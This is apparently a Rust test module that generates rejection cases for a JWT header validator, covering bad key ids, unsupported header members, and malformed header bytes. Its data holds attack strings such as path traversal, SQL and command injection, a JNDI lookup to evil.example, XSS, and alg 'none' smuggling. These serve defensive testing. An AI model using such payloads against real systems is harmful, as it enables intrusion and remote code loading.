//! The rest of the header: its key id, its kind, the members that change what is signed, and JSON that is none.

use consentry_onboarding::verdict::Cause;
use serde_json::{Value, json};

use crate::case::{Case, Class, Said};
use crate::mint::{KID, Mint, with, without};

const REFUSED: Said = Said::Cause(Cause::AlgorithmRefused);
const UNKNOWN: Said = Said::Cause(Cause::KeyUnknown);
const MALFORMED: Said = Said::Cause(Cause::MalformedToken);

fn case(name: impl AsRef<str>, why: &'static str, token: String, said: Said) -> Case {
    Case::new(Class::Header, name, why, token, said)
}

pub(crate) fn cases(mint: &Mint) -> Vec<Case> {
    let mut all = key_ids(mint);
    all.extend(members(mint));
    all.extend(texts(mint));
    all
}

fn key_ids(mint: &Mint) -> Vec<Case> {
    let signed = |kid: Value| mint.published.token(&with(mint.header(), "kid", kid), &mint.claims());
    let look_alike = KID.replacen('Q', "\u{24c6}", 1);
    let mut all = Vec::new();
    for (nth, kid) in [
        "../../../../dev/null",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "file:///dev/null",
        "' OR '1'='1",
        "x' UNION SELECT 'key'--",
        "$(id)",
        "`id`",
        "|id",
        "%00",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "__proto__",
        "constructor",
        "0",
        "null",
        "https://evil.example/keys",
        "<script>alert(1)</script>",
        "😀",
        look_alike.as_str(),
        "\u{43a}WnQf3ZbT0x1r8yUe5sVh2LpJ9A",
        &KID.to_lowercase(),
        &KID.to_uppercase(),
        &format!("{KID} "),
        &format!(" {KID}"),
        &format!("{KID}="),
        &KID[1..],
        &KID[..KID.len() - 1],
        &format!("{KID}{KID}"),
        &"k".repeat(128),
    ]
    .into_iter()
    .enumerate()
    {
        let shown: String = kid.escape_debug().take(12).collect();
        all.push(case(
            format!("kid-{nth}-{shown}"),
            "a key id is a text to compare, and no more",
            signed(json!(kid)),
            UNKNOWN,
        ));
    }
    for (name, kid) in [
        ("zero-byte", format!("{KID}\0")),
        ("zero-byte-inside", format!("{}\0{}", &KID[..5], &KID[5..])),
        ("line-break", format!("{KID}\n")),
        ("escape", format!("\u{1b}[2J{KID}")),
        ("turned", format!("\u{202e}{KID}")),
        ("empty", String::new()),
        ("129", "k".repeat(129)),
        ("64-kilobytes", "k".repeat(40_000)),
    ] {
        all.push(case(format!("kid-{name}"), "no key has such an id", signed(json!(kid)), MALFORMED));
    }
    for (name, kid) in [
        ("number", json!(0)),
        ("list", json!([KID])),
        ("object", json!({"kid": KID})),
        ("null", Value::Null),
        ("true", json!(true)),
    ] {
        all.push(case(format!("kid-{name}"), "a key id is a text", signed(kid), MALFORMED));
    }
    let token = mint.published.token(&without(mint.header(), "kid"), &mint.claims());
    all.push(case("kid-missing", "keys are not tried one by one", token, UNKNOWN));
    all
}

/// Members that change what is signed or how it is to be read, and kinds that are no access tokens.
fn members(mint: &Mint) -> Vec<Case> {
    let mut all = Vec::new();
    let signed =
        |name: &str, value: Value| mint.published.token(&with(mint.header(), name, value), &mint.claims());
    for (name, member, value) in [
        ("crit-empty", "crit", json!([])),
        ("crit-b64", "crit", json!(["b64"])),
        ("crit-unknown", "crit", json!(["https://evil.example/ext"])),
        ("crit-exp", "crit", json!(["exp"])),
        ("crit-text", "crit", json!("exp")),
        ("crit-null", "crit", Value::Null),
        ("b64-false", "b64", json!(false)),
        ("b64-true", "b64", json!(true)),
        ("zip-def", "zip", json!("DEF")),
        ("zip-gzip", "zip", json!("GZIP")),
        ("zip-null", "zip", Value::Null),
        ("enc", "enc", json!("A256GCM")),
        ("enc-null", "enc", Value::Null),
    ] {
        all.push(case(
            name,
            "what it asks for is not done, so it is refused",
            signed(member, value),
            REFUSED,
        ));
    }
    let both = with(with(mint.header(), "crit", json!(["b64"])), "b64", false);
    all.push(case(
        "crit-and-b64",
        "what it asks for is not done",
        mint.published.token(&both, &mint.claims()),
        REFUSED,
    ));
    for (name, value) in [
        ("at+jwt", json!("at+jwt")),
        ("application", json!("application/at+jwt")),
        ("dpop", json!("dpop+jwt")),
        ("jose", json!("JOSE")),
        ("jwe", json!("JWE")),
        ("saml", json!("SAML")),
        ("empty", json!("")),
        ("blank", json!("JWT ")),
        ("zero-byte", json!("JWT\0")),
        ("number", json!(1)),
        ("null", Value::Null),
        ("list", json!(["JWT"])),
    ] {
        all.push(case(
            format!("typ-{name}"),
            "an access token of Entra's is a JWT",
            signed("typ", value),
            MALFORMED,
        ));
    }
    all
}

/// Bytes in the place of the header that are no JSON object, or more than one.
fn texts(mint: &Mint) -> Vec<Case> {
    let claims = mint.claims().to_string();
    let good = mint.header().to_string();
    let inner = &good[1..good.len() - 1];
    let deep = |open: &str, close: &str, times: usize| {
        format!("{{{inner},\"x\":{}1{}}}", open.repeat(times), close.repeat(times))
    };
    let utf16: Vec<u8> = good.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let utf16_mark = [&[0xff, 0xfe][..], &utf16].concat();
    let text = |text: String| text.into_bytes();
    let texts: Vec<(&str, Vec<u8>)> = vec![
        ("alg-twice", text(format!("{{{inner},\"alg\":\"none\"}}"))),
        ("alg-twice-first", text(format!("{{\"alg\":\"none\",{inner}}}"))),
        ("alg-twice-same", text(format!("{{{inner},\"alg\":\"RS256\"}}"))),
        ("alg-twice-escaped", text(format!("{{{inner},\"\\u0061lg\":\"none\"}}"))),
        ("kid-twice", text(format!("{{{inner},\"kid\":\"other\"}}"))),
        ("unknown-twice", text(format!("{{{inner},\"q\":1,\"q\":1}}"))),
        ("byte-order-mark", text(format!("\u{feff}{good}"))),
        ("utf-16", utf16),
        ("utf-16-with-mark", utf16_mark),
        ("broken-utf-8", [good.as_bytes(), &[0xff]].concat()),
        ("broken-utf-8-inside", [b"{\"x\":\"\xc3\x28\",", inner.as_bytes(), b"}"].concat()),
        ("half-a-pair", text(format!("{{{inner},\"x\":\"\\ud800\"}}"))),
        ("trailing-text", text(format!("{good}x"))),
        ("trailing-object", text(format!("{good}{{}}"))),
        ("trailing-zero", text(format!("{good}\0"))),
        ("trailing-comma", text(format!("{{{inner},}}"))),
        ("comment", text(format!("{{{inner}/**/}}"))),
        ("single-quotes", text(good.replace('"', "'"))),
        ("no-quotes", text(good.replace('"', ""))),
        ("cut", text(good[..good.len() - 1].to_owned())),
        ("list", text(format!("[{good}]"))),
        ("text", text(format!("{good:?}"))),
        ("number", text("256".to_owned())),
        ("null", text("null".to_owned())),
        ("empty-object", text("{}".to_owned())),
        ("blank", text(" ".to_owned())),
        ("lists-in-lists", text(deep("[", "]", 500))),
        ("objects-in-objects", text(deep("{\"a\":", "}", 300))),
        ("endless-number", text(format!("{{{inner},\"x\":1e99999}}"))),
        ("not-a-number", text(format!("{{{inner},\"x\":NaN}}"))),
        ("five-kilobytes", text(format!("{{{inner},\"x\":\"{}\"}}", "x".repeat(5_000)))),
        ("sixty-kilobytes-of-lists", text(format!("{{{inner},\"x\":{}", "[".repeat(40_000)))),
        ("html", text("<html>".to_owned())),
    ];
    let why = "the header is one JSON object, each member named once, of no more than is needed";
    texts
        .into_iter()
        .map(|(name, header)| {
            let token = mint.published.token_of(&header, claims.as_bytes());
            case(format!("text-{name}"), why, token, MALFORMED)
        })
        .collect()
}
